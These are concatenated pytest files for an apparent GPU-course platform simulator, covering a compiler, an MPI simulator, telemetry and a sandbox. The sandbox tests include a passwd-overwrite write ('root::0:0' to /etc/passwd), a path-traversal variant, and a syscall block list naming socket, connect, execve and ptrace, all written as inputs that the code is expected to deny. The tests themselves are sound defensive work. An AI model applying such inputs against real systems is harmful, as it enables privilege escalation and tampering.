        out = preprocess(source)
        assert out.split() == source.split()

    @given(st.integers(0, 1000))
    def test_object_macro_substitutes_value(self, value):
        out = preprocess(f"#define N {value}\nint a = N;")
        assert f"int a = {value};" in out


class TestComparisonProperties:
    @given(st.lists(st.floats(min_value=-1e6, max_value=1e6,
                              allow_nan=False), min_size=1, max_size=50))
    @settings(max_examples=50)
    def test_reflexive(self, values):
        arr = np.array(values, dtype=np.float32)
        assert compare_solution(arr, arr.copy()).correct

    @given(st.lists(st.floats(min_value=-1e6, max_value=1e6,
                              allow_nan=False), min_size=1, max_size=50),
           st.integers(0, 49))
    @settings(max_examples=50)
    def test_single_corruption_detected_and_located(self, values, pos):
        arr = np.array(values, dtype=np.float64)
        pos = pos % len(arr)
        corrupted = arr.copy()
        corrupted[pos] = corrupted[pos] + max(1.0, abs(corrupted[pos]))
        result = compare_solution(arr, corrupted)
        assert not result.correct
        assert result.mismatches[0].index == (pos,)

    # |v| <= 1e4 keeps the +100 corruption outside rtol * |v| + atol
    @given(st.lists(st.floats(allow_nan=False, min_value=-1e4,
                              max_value=1e4), min_size=1, max_size=20))
    @settings(max_examples=50)
    def test_mismatch_count_bounded_by_total(self, values):
        arr = np.array(values, dtype=np.float64)
        result = compare_solution(arr, arr + 100.0)
        assert 0 < result.mismatched <= result.total


class TestMarkdownProperties:
    @given(st.text(max_size=300))
    @settings(max_examples=100)
    def test_never_emits_raw_script_tags(self, text):
        html = render_markdown(text)
        assert "<script" not in html.lower()

    @given(st.lists(st.text(alphabet="abc`*", min_size=1, max_size=20),
                    min_size=1, max_size=5))
    @settings(max_examples=50)
    def test_list_items_balanced(self, items):
        source = "\n".join(f"- {item}" for item in items)
        html = render_markdown(source)
        assert html.count("<li>") == html.count("</li>") == len(items)


class TestPrintfProperties:
    @given(st.integers(-10**6, 10**6), st.floats(-1e6, 1e6,
                                                 allow_nan=False))
    @settings(max_examples=50)
    def test_c_format_never_raises(self, i, f):
        out = c_format("i=%d f=%f u=%u", (i, f, abs(i)))
        assert str(i) in out


class TestGpuSimProperties:
    @given(st.integers(1, 64), st.integers(1, 8))
    @settings(max_examples=20, deadline=None)
    def test_every_thread_runs_exactly_once(self, block, grid):
        from repro.gpusim import Device, GpuRuntime
        rt = GpuRuntime(Device())
        total = block * grid
        out = rt.malloc(total, "int")

        def kernel(ctx, out):
            ctx.atomic_add(out.ptr(), ctx.global_x, 1)

        stats = rt.launch(kernel, (grid,), (block,), out)
        assert stats.threads == total
        assert (rt.memcpy_dtoh(out) == 1).all()

    @given(st.integers(1, 4), st.integers(1, 3))
    @settings(max_examples=10, deadline=None)
    def test_barrier_count_scales_with_blocks(self, blocks, barriers):
        from repro.gpusim import Device, GpuRuntime, SYNC
        rt = GpuRuntime(Device())

        def kernel(ctx, n=barriers):
            for _ in range(n):
                yield SYNC

        stats = rt.launch(kernel, (blocks,), (32,))
        assert stats.barriers == blocks * barriers
