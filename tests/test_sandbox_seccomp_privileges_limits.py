"""Syscall whitelist, privilege confinement, time & rate limits."""

import pytest

from repro.sandbox import (
    FileSystemModel,
    PermissionDenied,
    RateLimitExceeded,
    SeccompPolicy,
    SubmissionRateLimiter,
    SyscallGate,
    SyscallViolation,
    TimeLimitExceeded,
    TimeLimiter,
)
from repro.sandbox.privileges import make_sandbox_context
from repro.sandbox.syscalls import SyscallCategory, calls_in_category


class TestSeccompPolicy:
    def test_baseline_permits_core_calls(self):
        policy = SeccompPolicy.baseline()
        for call in ("exit", "write", "mmap", "futex"):
            assert policy.permits(call)

    def test_baseline_blocks_files_and_network(self):
        policy = SeccompPolicy.baseline()
        for call in ("open", "socket", "connect", "unlink"):
            assert not policy.permits(call)

    def test_unknown_syscall_rejected_at_construction(self):
        with pytest.raises(ValueError, match="unknown syscall"):
            SeccompPolicy("p", frozenset({"frobnicate"}))

    def test_forbidden_categories_fail_closed(self):
        for call in ("fork", "execve", "setuid", "ptrace"):
            with pytest.raises(ValueError, match="never"):
                SeccompPolicy("p", frozenset({call}))

    def test_allowing_extends(self):
        policy = SeccompPolicy.baseline().allowing("open", "close")
        assert policy.permits("open")

    def test_allowing_category(self):
        policy = SeccompPolicy.baseline().allowing_category(
            SyscallCategory.FILE_IO)
        assert policy.permits("unlink")
        with pytest.raises(ValueError):
            SeccompPolicy.baseline().allowing_category(
                SyscallCategory.PROCESS_SPAWN)

    def test_category_helper(self):
        assert "socket" in calls_in_category(SyscallCategory.NETWORK)


class TestSyscallGate:
    def test_allows_and_traces(self):
        gate = SyscallGate(SeccompPolicy.baseline())
        gate.invoke("write")
        gate.invoke("write")
        gate.invoke("mmap")
        assert gate.counts() == {"write": 2, "mmap": 1}
        assert gate.violation is None

    def test_kills_on_violation(self):
        gate = SyscallGate(SeccompPolicy.baseline())
        with pytest.raises(SyscallViolation) as exc:
            gate.invoke("socket")
        assert exc.value.syscall == "socket"
        assert gate.violation == "socket"
        # the fatal call is still in the audit trail
        assert gate.trace[-1] == "socket"


class TestPrivileges:
    def test_sandbox_write_confined(self):
        fs = FileSystemModel()
        ctx = make_sandbox_context(fs)
        fs.write(ctx, f"{ctx.writable_root}/a.out", b"binary")
        assert fs.read(f"{ctx.writable_root}/a.out") == b"binary"

    def test_write_outside_tempdir_denied(self):
        fs = FileSystemModel()
        ctx = make_sandbox_context(fs)
        with pytest.raises(PermissionDenied):
            fs.write(ctx, "/etc/passwd", b"root::0:0")

    def test_path_traversal_denied(self):
        fs = FileSystemModel()
        ctx = make_sandbox_context(fs)
        with pytest.raises(PermissionDenied):
            fs.write(ctx, f"{ctx.writable_root}/../../etc/passwd", b"x")

    def test_each_compilation_gets_unique_dir(self):
        fs = FileSystemModel()
        a, b = make_sandbox_context(fs), make_sandbox_context(fs)
        assert a.writable_root != b.writable_root
        assert a.uid != b.uid and not a.is_privileged

    def test_remove_tree_cleans_up(self):
        fs = FileSystemModel()
        ctx = make_sandbox_context(fs)
        fs.write(ctx, f"{ctx.writable_root}/a", b"1")
        fs.write(ctx, f"{ctx.writable_root}/sub/b", b"2")
        assert fs.remove_tree(ctx.writable_root) == 2
        assert not fs.exists(f"{ctx.writable_root}/a")

    def test_listdir(self):
        fs = FileSystemModel()
        ctx = make_sandbox_context(fs)
        fs.write(ctx, f"{ctx.writable_root}/x", b"1")
        fs.write(ctx, f"{ctx.writable_root}/sub/y", b"2")
        assert fs.listdir(ctx.writable_root) == ["sub", "x"]


class TestTimeLimiter:
    def test_charges_accumulate(self):
        limiter = TimeLimiter("run", 1.0)
        limiter.charge(0.4)
        limiter.charge(0.4)
        assert limiter.remaining == pytest.approx(0.2)

    def test_exceeding_raises(self):
        limiter = TimeLimiter("compile", 0.5)
        with pytest.raises(TimeLimitExceeded) as exc:
            limiter.charge(0.6)
        assert exc.value.phase == "compile"

    def test_negative_charge_rejected(self):
        with pytest.raises(ValueError):
            TimeLimiter("run", 1.0).charge(-1)

    def test_zero_limit_rejected(self):
        with pytest.raises(ValueError):
            TimeLimiter("run", 0)


class TestRateLimiter:
    def test_burst_then_rejection(self):
        limiter = SubmissionRateLimiter(rate_per_minute=6, burst=3)
        assert all(limiter.try_submit("u", 0.0) for _ in range(3))
        assert not limiter.try_submit("u", 0.0)

    def test_refill_over_time(self):
        limiter = SubmissionRateLimiter(rate_per_minute=6, burst=1)
        assert limiter.try_submit("u", 0.0)
        assert not limiter.try_submit("u", 1.0)
        assert limiter.try_submit("u", 11.0)  # 6/min = 1 per 10 s

    def test_users_are_independent(self):
        limiter = SubmissionRateLimiter(rate_per_minute=6, burst=1)
        assert limiter.try_submit("a", 0.0)
        assert limiter.try_submit("b", 0.0)

    def test_submit_raises_with_retry_after(self):
        limiter = SubmissionRateLimiter(rate_per_minute=6, burst=1)
        limiter.submit("u", 0.0)
        with pytest.raises(RateLimitExceeded) as exc:
            limiter.submit("u", 0.0)
        assert 0 < exc.value.retry_after <= 10.0

    def test_time_going_backwards_rejected(self):
        limiter = SubmissionRateLimiter()
        limiter.try_submit("u", 100.0)
        with pytest.raises(ValueError):
            limiter.try_submit("u", 50.0)

    def test_tokens_capped_at_burst(self):
        limiter = SubmissionRateLimiter(rate_per_minute=60, burst=2)
        limiter.try_submit("u", 0.0)
        assert limiter.tokens("u", 1000.0) == 2.0
