"""The bug-mutation corpus and the full-stack replay simulation."""

import pytest

from repro.cluster import ManualClock
from repro.core import WebGPU
from repro.core.course import CourseOffering
from repro.labs import get_lab
from repro.labs.mutations import MUTATIONS, buggy_source, mutations_for
from repro.minicuda import CompileError, compile_source
from repro.simulate import replay_cohort


class TestMutationCorpus:
    def test_every_mutation_anchor_still_matches(self):
        """Guards against solution edits silently breaking the corpus."""
        for mutation in MUTATIONS:
            source = buggy_source(mutation)  # asserts anchor presence
            assert source != get_lab(mutation.lab_slug).solution

    def test_mutations_change_behaviour_or_compilation(self):
        """Each mutation either fails to compile or is not graded 100%
        on the full dataset suite (except documented races/UB)."""
        from repro.labs import execute_lab_source
        for mutation in MUTATIONS:
            if not mutation.expected_feedback_keyword:
                continue  # races may accidentally pass serially
            lab = get_lab(mutation.lab_slug)
            source = buggy_source(mutation)
            try:
                compile_source(source)
            except CompileError:
                continue  # failing to compile counts as changed behaviour
            import dataclasses
            if "time limit" in mutation.expected_feedback_keyword:
                lab = dataclasses.replace(lab, run_limit_s=0.2)
            failed_somewhere = False
            for index in range(len(lab.dataset_sizes)):
                try:
                    result = execute_lab_source(lab, source,
                                                lab.dataset(index),
                                                max_steps=200_000)
                    if not result.passed:
                        failed_somewhere = True
                        break
                except Exception:
                    failed_somewhere = True
                    break
            assert failed_somewhere, mutation.name

    def test_mutations_for_filter(self):
        assert all(m.lab_slug == "vector-add"
                   for m in mutations_for("vector-add"))
        assert len(mutations_for("vector-add")) >= 5


class TestReplay:
    @pytest.fixture
    def platform(self):
        clock = ManualClock()
        gpu = WebGPU(clock=clock, num_workers=2, rate_per_minute=60.0)
        gpu.create_course(CourseOffering(code="HPP", year=2015),
                          ["vector-add"])
        return gpu

    def test_cohort_completes_and_is_graded(self, platform):
        stats = replay_cohort(platform, "HPP-2015", "vector-add",
                              num_students=6, seed=2)
        assert stats.students == 6
        assert stats.submissions == 6
        assert stats.mean_grade >= 90.0
        assert len(platform.gradebook.for_lab("vector-add")) == 6

    def test_replay_is_deterministic(self):
        def run(seed):
            clock = ManualClock()
            gpu = WebGPU(clock=clock, num_workers=2, rate_per_minute=60.0)
            gpu.create_course(CourseOffering(code="HPP", year=2015),
                              ["vector-add"])
            return replay_cohort(gpu, "HPP-2015", "vector-add",
                                 num_students=5, seed=seed)

        a, b = run(7), run(7)
        assert (a.runs, a.feedback_messages, a.hints_taken) == \
            (b.runs, b.feedback_messages, b.hints_taken)

    def test_buggy_iterations_generate_history(self, platform):
        replay_cohort(platform, "HPP-2015", "vector-add",
                      num_students=8, seed=11)
        # at least one student saved skeleton + bug + fix = 3 revisions
        counts = [len(platform.revisions.history(u["id"], "vector-add"))
                  for u in platform.db.find("users")]
        assert max(counts) >= 3
