"""In-process MPI: point-to-point, collectives, failure handling."""

import numpy as np
import pytest

from repro.mpisim import Communicator, MpiError, MpiTimeout, run_mpi


class TestPointToPoint:
    def test_send_recv(self):
        def rank_main(ep):
            if ep.rank == 0:
                ep.send(np.array([1.0, 2.0]), dest=1, tag=5)
                return None
            return ep.recv(source=0, tag=5).tolist()

        results = run_mpi(2, rank_main)
        assert results[1] == [1.0, 2.0]

    def test_tag_matching_with_stash(self):
        """An early message with the wrong tag must not satisfy a recv
        waiting for another tag."""
        def rank_main(ep):
            if ep.rank == 0:
                ep.send("wrong-tag", dest=1, tag=9)
                ep.send("right-tag", dest=1, tag=1)
                return None
            first = ep.recv(source=0, tag=1)
            second = ep.recv(source=0, tag=9)
            return (first, second)

        results = run_mpi(2, rank_main)
        assert results[1] == ("right-tag", "wrong-tag")

    def test_wildcard_source(self):
        def rank_main(ep):
            if ep.rank == 0:
                got = {ep.recv(source=-1, tag=0) for _ in range(2)}
                return got
            ep.send(ep.rank, dest=0, tag=0)
            return None

        results = run_mpi(3, rank_main)
        assert results[0] == {1, 2}

    def test_send_to_invalid_rank(self):
        def rank_main(ep):
            ep.send(1, dest=99, tag=0)

        with pytest.raises(MpiError):
            run_mpi(1, rank_main)

    def test_recv_timeout_flags_deadlock(self):
        def rank_main(ep):
            ep.recv(source=0, tag=0)  # nobody sends

        with pytest.raises(MpiTimeout):
            run_mpi(1, rank_main, timeout=0.2)

    def test_sendrecv_ring_does_not_deadlock(self):
        def rank_main(ep):
            right = (ep.rank + 1) % ep.size
            left = (ep.rank - 1) % ep.size
            return ep.sendrecv(ep.rank, dest=right, source=left, tag=2)

        results = run_mpi(4, rank_main)
        assert results == [3, 0, 1, 2]


class TestCollectives:
    def test_barrier_synchronises(self):
        order = []

        def rank_main(ep):
            order.append(("before", ep.rank))
            ep.barrier()
            order.append(("after", ep.rank))

        run_mpi(3, rank_main)
        befores = [i for i, (phase, _) in enumerate(order)
                   if phase == "before"]
        afters = [i for i, (phase, _) in enumerate(order) if phase == "after"]
        assert max(befores) < min(afters)

    def test_allreduce_sum(self):
        def rank_main(ep):
            return ep.allreduce(np.full(3, float(ep.rank + 1)), op="sum")

        results = run_mpi(4, rank_main)
        for r in results:
            assert np.allclose(r, 10.0)

    def test_allreduce_scalar_max(self):
        def rank_main(ep):
            return ep.allreduce(ep.rank * 2, op="max")

        assert run_mpi(3, rank_main) == [4, 4, 4]

    def test_allreduce_unknown_op(self):
        def rank_main(ep):
            return ep.allreduce(1, op="xor")

        with pytest.raises(MpiError):
            run_mpi(2, rank_main)

    def test_bcast(self):
        def rank_main(ep):
            payload = "labdata" if ep.rank == 0 else None
            return ep.bcast(payload, root=0)

        assert run_mpi(3, rank_main) == ["labdata"] * 3

    def test_gather_preserves_rank_order(self):
        def rank_main(ep):
            return ep.gather(ep.rank * 10, root=0)

        results = run_mpi(4, rank_main)
        assert results[0] == [0, 10, 20, 30]
        assert results[1] is None


class TestFailurePropagation:
    def test_rank_exception_reaches_caller(self):
        def rank_main(ep):
            if ep.rank == 1:
                raise RuntimeError("rank 1 exploded")
            ep.barrier()

        with pytest.raises((RuntimeError, MpiTimeout)):
            run_mpi(2, rank_main, timeout=1.0)

    def test_stats_tracked(self):
        comm = Communicator(2)

        def rank_main(rank):
            ep = comm.endpoint(rank)
            if rank == 0:
                ep.send(np.zeros(10, dtype=np.float32), dest=1)
            else:
                ep.recv(source=0)

        import threading
        threads = [threading.Thread(target=rank_main, args=(r,))
                   for r in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert comm.messages_sent == 1
        assert comm.bytes_sent == 40

    def test_invalid_size(self):
        with pytest.raises(MpiError):
            Communicator(0)
