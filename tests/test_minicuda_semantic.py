"""Semantic analysis: symbols, arity, qualifier rules, diagnostics."""

import pytest

from repro.minicuda import CompileError, analyze, parse


def check(source):
    return analyze(parse(source))


def errors_of(source):
    with pytest.raises(CompileError) as exc:
        check(source)
    return str(exc.value)


class TestClassification:
    def test_kernel_and_host_split(self):
        info = check("""
__global__ void k(float *a) {}
__device__ float helper(float x) { return x; }
int main() { return 0; }
""")
        assert set(info.kernels) == {"k"}
        assert set(info.device_functions) == {"helper"}
        assert "main" in info.host_functions and info.has_main

    def test_kernel_must_return_void(self):
        msg = errors_of("__global__ int k() { return 1; }")
        assert "must return void" in msg

    def test_redefinition_rejected(self):
        msg = errors_of("void f() {} void f() {}")
        assert "redefinition" in msg

    def test_file_scope_shared_rejected(self):
        msg = errors_of("__shared__ float buf[8];")
        assert "file scope" in msg


class TestNameResolution:
    def test_undeclared_identifier(self):
        msg = errors_of("void f() { x = 1; }")
        assert "undeclared identifier 'x'" in msg

    def test_builtin_variables_ok_in_device(self):
        check("__global__ void k(int *a) { a[threadIdx.x] = blockIdx.x; }")

    def test_builtin_variables_not_in_host(self):
        msg = errors_of("int main() { int x = threadIdx.x; return 0; }")
        assert "threadIdx" in msg

    def test_params_and_locals_visible(self):
        check("void f(int n) { int m = n; { int k = m; } }")

    def test_inner_scope_not_visible_outside(self):
        msg = errors_of("void f() { { int k = 1; } int m = k; }")
        assert "'k'" in msg

    def test_shadowing_allowed_in_inner_scope(self):
        check("void f(int n) { for (int n = 0; n < 2; n++) {} }")

    def test_redeclaration_in_same_scope_rejected(self):
        msg = errors_of("void f() { int a; float a; }")
        assert "redeclaration" in msg

    def test_constant_globals_visible_everywhere(self):
        check("""
__constant__ float M[4];
__global__ void k(float *o) { o[0] = M[0]; }
""")


class TestCallChecking:
    def test_unknown_device_call(self):
        msg = errors_of("__global__ void k() { frob(); }")
        assert "unknown device function 'frob'" in msg

    def test_host_function_not_callable_from_device(self):
        msg = errors_of("""
void helper() {}
__global__ void k() { helper(); }
""")
        assert "host functions cannot be called from device code" in msg

    def test_kernel_called_like_function_gets_hint(self):
        msg = errors_of("""
__global__ void k() {}
int main() { k(); return 0; }
""")
        assert "<<<" in msg

    def test_user_function_arity(self):
        msg = errors_of("""
__device__ float f(float a, float b) { return a; }
__global__ void k() { f(1.0f); }
""")
        assert "expects 2" in msg

    def test_builtin_arity(self):
        msg = errors_of("__global__ void k(float* a) { atomicAdd(a); }")
        assert "expects 2" in msg

    def test_launch_arity(self):
        msg = errors_of("""
__global__ void k(int a, int b) {}
int main() { k<<<1, 1>>>(1); return 0; }
""")
        assert "expects 2" in msg

    def test_launch_of_unknown_kernel(self):
        msg = errors_of("int main() { nope<<<1, 1>>>(); return 0; }")
        assert "unknown kernel" in msg

    def test_launch_inside_device_code_rejected(self):
        msg = errors_of("""
__global__ void k() {}
__global__ void outer() { k<<<1, 1>>>(); }
""")
        assert "device code" in msg


class TestStatementRules:
    def test_break_outside_loop(self):
        assert "break" in errors_of("void f() { break; }")

    def test_continue_inside_loop_ok(self):
        check("void f() { while (1) { continue; break; } }")

    def test_void_return_with_value(self):
        assert "returns a value" in errors_of("void f() { return 3; }")

    def test_shared_in_host_rejected(self):
        msg = errors_of("int main() { __shared__ float s[4]; return 0; }")
        assert "__shared__" in msg

    def test_assign_to_rvalue_rejected(self):
        assert "lvalue" in errors_of("void f(int a) { (a + 1) = 2; }")

    def test_all_errors_collected(self):
        with pytest.raises(CompileError) as exc:
            check("void f() { x = 1; y = 2; }")
        assert len(exc.value.diagnostics) == 2
