"""Unit tests for repro.telemetry: metrics, tracing, export."""

import io

import pytest

from repro.cluster import ManualClock
from repro.telemetry import (
    NULL_SPAN,
    STAGES,
    WARNING,
    MetricsRegistry,
    NullTracer,
    Telemetry,
    TraceContext,
    Tracer,
    dump_jsonl,
    merge_registries,
    read_jsonl,
    requirement_tag,
    waterfall,
    write_jsonl,
)
from repro.telemetry.metrics import bucket_index, bucket_upper


class TestCounter:
    def test_inc_value_total(self):
        c = MetricsRegistry().counter("jobs_total", "jobs")
        c.inc()
        c.inc(2.0, worker="w0")
        c.inc(worker="w1")
        assert c.value() == 1.0
        assert c.value(worker="w0") == 2.0
        assert c.total() == 4.0
        assert c.value(worker="nope") == 0.0

    def test_counters_only_go_up(self):
        c = MetricsRegistry().counter("x")
        with pytest.raises(ValueError):
            c.inc(-1.0)

    def test_label_order_is_irrelevant(self):
        c = MetricsRegistry().counter("x")
        c.inc(a="1", b="2")
        c.inc(b="2", a="1")
        assert c.value(b="2", a="1") == 2.0

    def test_merge_adds_series(self):
        r1, r2 = MetricsRegistry(), MetricsRegistry()
        r1.counter("x").inc(3, w="a")
        r2.counter("x").inc(4, w="a")
        r2.counter("x").inc(1, w="b")
        r1.merge(r2)
        assert r1.counter("x").value(w="a") == 7.0
        assert r1.counter("x").value(w="b") == 1.0


class TestGauge:
    def test_set_inc_dec(self):
        g = MetricsRegistry().gauge("depth")
        g.set(5)
        g.dec(2)
        g.inc()
        assert g.value() == 4.0

    def test_fleet_merge_is_additive(self):
        rs = [MetricsRegistry() for _ in range(3)]
        for i, r in enumerate(rs):
            r.gauge("in_flight").set(i + 1)
        merged = merge_registries(rs)
        assert merged.gauge("in_flight").value() == 6.0


class TestHistogram:
    def test_bucket_layout_invariants(self):
        # every positive value lands in a bucket whose bounds hold it
        for value in (1e-6, 3.7e-4, 0.5, 1.0, 9.99, 1234.5):
            idx = bucket_index(value)
            assert value < bucket_upper(idx)
            # 1e-12 slack: bucket bounds are reconstructed via exp2
            assert value >= bucket_upper(idx - 1) * (1 - 1e-12)
        assert bucket_upper(bucket_index(0.0)) == 0.0
        assert bucket_index(-1.0) == bucket_index(0.0)

    def test_quantiles_within_bucket_resolution(self):
        h = MetricsRegistry().histogram("lat")
        values = [0.001 * i for i in range(1, 1001)]
        for v in values:
            h.observe(v)
        s = h.series()
        # log buckets are ~9% wide and answers clamp to [min, max]
        assert s.quantile(0.5) == pytest.approx(0.5, rel=0.10)
        assert s.quantile(0.95) == pytest.approx(0.95, rel=0.10)
        assert s.quantile(0.99) == pytest.approx(0.99, rel=0.10)
        assert s.quantile(0.0) == pytest.approx(s.min, rel=0.10)
        assert s.quantile(1.0) == s.max
        assert s.count == 1000
        assert s.mean == pytest.approx(0.5005)

    def test_quantile_determinism_and_order_independence(self):
        h1 = MetricsRegistry().histogram("lat")
        h2 = MetricsRegistry().histogram("lat")
        values = [0.01, 5.0, 0.3, 0.3, 2.2, 0.07]
        for v in values:
            h1.observe(v)
        for v in reversed(values):
            h2.observe(v)
        for q in (0.5, 0.95, 0.99):
            assert h1.series().quantile(q) == h2.series().quantile(q)

    def test_empty_series_quantile(self):
        from repro.telemetry.metrics import _HistogramSeries
        s = _HistogramSeries()
        assert s.quantile(0.5) == 0.0
        assert s.summary()["p99"] == 0.0
        with pytest.raises(ValueError):
            s.quantile(1.5)

    def test_merge_equals_combined_observations(self):
        a = MetricsRegistry().histogram("lat")
        b = MetricsRegistry().histogram("lat")
        both = MetricsRegistry().histogram("lat")
        for v in (0.1, 0.2, 0.3):
            a.observe(v, stage="x")
            both.observe(v, stage="x")
        for v in (1.0, 2.0):
            b.observe(v, stage="x")
            both.observe(v, stage="x")
        a.merge(b)
        sa, sb = a.series(stage="x"), both.series(stage="x")
        assert sa.count == sb.count == 5
        assert sa.sum == pytest.approx(sb.sum)
        for q in (0.5, 0.95, 0.99):
            assert sa.quantile(q) == sb.quantile(q)

    def test_merged_partial_label_match(self):
        h = MetricsRegistry().histogram("stage")
        h.observe(1.0, stage="exec", tag="mpi")
        h.observe(3.0, stage="exec", tag="untagged")
        h.observe(9.0, stage="compile", tag="mpi")
        merged = h.merged(stage="exec")
        assert merged.count == 2
        assert merged.sum == pytest.approx(4.0)
        assert h.label_values("tag") == ["mpi", "untagged"]


class TestRegistry:
    def test_get_or_create_and_type_conflict(self):
        r = MetricsRegistry()
        c = r.counter("x", "help text")
        assert r.counter("x") is c
        assert r.get("x") is c
        assert r.get("missing") is None
        with pytest.raises(TypeError):
            r.gauge("x")
        assert r.names() == ["x"]

    def test_prometheus_exposition(self):
        r = MetricsRegistry()
        r.counter("jobs_total", "jobs served").inc(3, worker="w0")
        r.gauge("depth", "queue depth").set(2)
        h = r.histogram("lat_seconds", "latency")
        h.observe(0.0, stage="grade")
        h.observe(0.5, stage="exec")
        h.observe(0.7, stage="exec")
        text = r.render_prometheus()
        assert "# HELP jobs_total jobs served" in text
        assert "# TYPE jobs_total counter" in text
        assert 'jobs_total{worker="w0"} 3' in text
        assert "# TYPE depth gauge" in text
        assert "depth 2" in text
        assert "# TYPE lat_seconds histogram" in text
        # the zero bucket renders with le="0"
        assert 'lat_seconds_bucket{stage="grade",le="0"} 1' in text
        assert 'lat_seconds_bucket{stage="exec",le="+Inf"} 2' in text
        assert 'lat_seconds_count{stage="exec"} 2' in text

    def test_histogram_bucket_counts_are_cumulative(self):
        r = MetricsRegistry()
        h = r.histogram("lat", "")
        for v in (0.1, 0.2, 0.4, 0.8):
            h.observe(v)
        lines = [line for line in r.render_prometheus().splitlines()
                 if line.startswith("lat_bucket")]
        counts = [int(line.rsplit(" ", 1)[1]) for line in lines]
        assert counts == sorted(counts)
        assert counts[-1] == 4      # the +Inf bucket sees everything

    def test_snapshot_and_json(self):
        r = MetricsRegistry()
        r.counter("x").inc()
        r.histogram("h").observe(1.0)
        snap = r.snapshot()
        assert snap["x"]["type"] == "counter"
        assert snap["h"]["series"][0]["count"] == 1
        assert '"x"' in r.to_json()


class TestTracer:
    def test_deterministic_ids(self):
        def run():
            clock = ManualClock()
            tracer = Tracer(clock)
            root = tracer.start_trace("submit", job_id=1)
            clock.advance(2.5)
            child = tracer.start_span("process", parent=root)
            child.end()
            root.end()
            return [(s.trace_id, s.span_id, s.start, s.end_time)
                    for s in tracer.spans]

        assert run() == run()

    def test_root_and_child_parenting(self):
        tracer = Tracer()
        root = tracer.start_trace("submit", time=1.0)
        assert root.trace_id == root.span_id
        assert root.parent_id is None
        child = tracer.start_span("lease", parent=root, time=2.0)
        assert child.trace_id == root.trace_id
        assert child.parent_id == root.span_id
        # a TraceContext (what rides on the Job) works as a parent too
        ctx = root.context
        assert isinstance(ctx, TraceContext)
        far = tracer.start_span("process", parent=ctx, time=3.0)
        assert far.trace_id == root.trace_id
        assert far.parent_id == root.span_id

    def test_no_parent_starts_fresh_trace(self):
        tracer = Tracer()
        a = tracer.start_span("a", time=0.0)
        b = tracer.start_span("b", parent=NULL_SPAN, time=0.0)
        assert a.trace_id != b.trace_id
        assert tracer.trace_ids() == [a.trace_id, b.trace_id]

    def test_span_never_ends_before_it_starts(self):
        tracer = Tracer()
        span = tracer.start_trace("x", time=5.0)
        span.end(time=1.0)
        assert span.end_time == 5.0
        assert span.duration == 0.0

    def test_end_falls_back_to_clock(self):
        clock = ManualClock()
        tracer = Tracer(clock)
        span = tracer.start_trace("x")
        clock.advance(3.0)
        span.end()
        assert span.duration == pytest.approx(3.0)

    def test_log_event_is_zero_length_span_with_event(self):
        tracer = Tracer()
        span = tracer.log_event("lease.expired", time=7.0, level=WARNING,
                                consumer="w0")
        assert span.start == span.end_time == 7.0
        assert span.events[0].level == WARNING
        assert span.events[0].attrs == {"consumer": "w0"}
        assert span.attrs["consumer"] == "w0"

    def test_for_trace_and_find(self):
        tracer = Tracer()
        root = tracer.start_trace("a", time=0.0)
        child = tracer.start_span("b", parent=root, time=1.0)
        other = tracer.start_trace("c", time=0.5)
        spans = tracer.for_trace(root.trace_id)
        assert spans == [root, child]
        assert other not in spans
        assert tracer.find(child.span_id) is child
        child.end(time=2.0)
        assert tracer.finished_spans() == [child]
        tracer.clear()
        assert tracer.spans == []

    def test_null_tracer_is_inert(self):
        tracer = NullTracer()
        assert not tracer.enabled
        span = tracer.start_trace("submit", time=1.0)
        assert span is NULL_SPAN
        assert not span                       # falsy: `if span:` guards
        assert span.set(x=1) is NULL_SPAN
        assert span.end(time=9.0) is NULL_SPAN
        assert span.event("boom") is None
        assert span.to_dict() == {}
        assert tracer.log_event("x") is NULL_SPAN
        assert tracer.trace_ids() == []
        with tracer.span("y") as inner:
            assert inner is NULL_SPAN


class TestTelemetryBundle:
    def test_defaults_and_tracing_flag(self):
        t = Telemetry()
        assert not t.enabled
        assert isinstance(t.tracer, NullTracer)
        traced = Telemetry(clock=ManualClock(), tracing=True)
        assert traced.enabled
        assert isinstance(traced.tracer, Tracer)

    def test_record_stage_feeds_summary(self):
        t = Telemetry()
        t.record_stage("exec", 1.5, tag="mpi")
        t.record_stage("exec", 0.5)
        t.record_stage("compile", -0.1)       # clamped to 0.0
        summary = t.stage_summary()
        assert summary["exec"]["count"] == 2
        assert summary["compile"]["min"] == 0.0
        by_tag = t.stage_summary(by_tag=True)
        assert by_tag["exec"]["tags"]["mpi"]["count"] == 1

    def test_requirement_tag(self):
        class FakeJob:
            requirements = {"mpi", "multi-gpu"}
        assert requirement_tag(FakeJob()) == "mpi+multi-gpu"
        FakeJob.requirements = set()
        assert requirement_tag(FakeJob()) == "untagged"

    def test_stage_vocabulary(self):
        assert STAGES == ("queue_wait", "container_acquire", "compile",
                          "exec", "grade", "report")


class TestExport:
    def make_trace(self):
        tracer = Tracer()
        root = tracer.start_trace("submit", time=0.0, job_id=1)
        child = tracer.start_span("process", parent=root, time=1.0)
        child.event("cache.miss", time=1.5, cache="grading_results")
        child.event("lease.expired", time=2.0, level=WARNING)
        child.end(time=3.0)
        root.end(time=4.0)
        return tracer

    def test_jsonl_roundtrip(self, tmp_path):
        tracer = self.make_trace()
        path = tmp_path / "traces.jsonl"
        assert write_jsonl(tracer.spans, path) == 2
        records = read_jsonl(path)
        assert [r["name"] for r in records] == ["submit", "process"]
        assert records[0]["attrs"] == {"job_id": 1}
        assert records[1]["events"][1]["level"] == "warning"
        # dicts read back from disk render identically to live spans
        assert waterfall(records) == waterfall(tracer.spans)

    def test_write_to_file_object(self):
        tracer = self.make_trace()
        buffer = io.StringIO()
        write_jsonl(tracer.spans, buffer)
        assert buffer.getvalue() == dump_jsonl(tracer.spans)

    def test_jsonl_is_sorted_by_start(self):
        tracer = Tracer()
        late = tracer.start_trace("late", time=5.0)
        early = tracer.start_trace("early", time=1.0)
        late.end(time=6.0)
        early.end(time=2.0)
        lines = dump_jsonl(tracer.spans).splitlines()
        assert '"name": "early"' in lines[0]
        assert '"name": "late"' in lines[1]

    def test_waterfall_rendering(self):
        tracer = self.make_trace()
        art = waterfall(tracer.spans)
        lines = art.splitlines()
        assert "2 span(s)" in lines[0]
        assert lines[1].startswith("submit")
        assert lines[2].startswith("  process")       # indented child
        assert any(line.strip().startswith("! lease.expired")
                   for line in lines)                 # warning marker
        assert any(line.strip().startswith("* cache.miss")
                   for line in lines)
        assert waterfall([]) == "(no spans)"
        assert "no spans for trace" in waterfall(tracer.spans,
                                                 trace_id="missing")
