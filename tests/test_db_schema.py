"""Schema declaration and row validation."""

import pytest

from repro.db import Column, ColumnType, Schema, SchemaError


def make_schema(**kwargs):
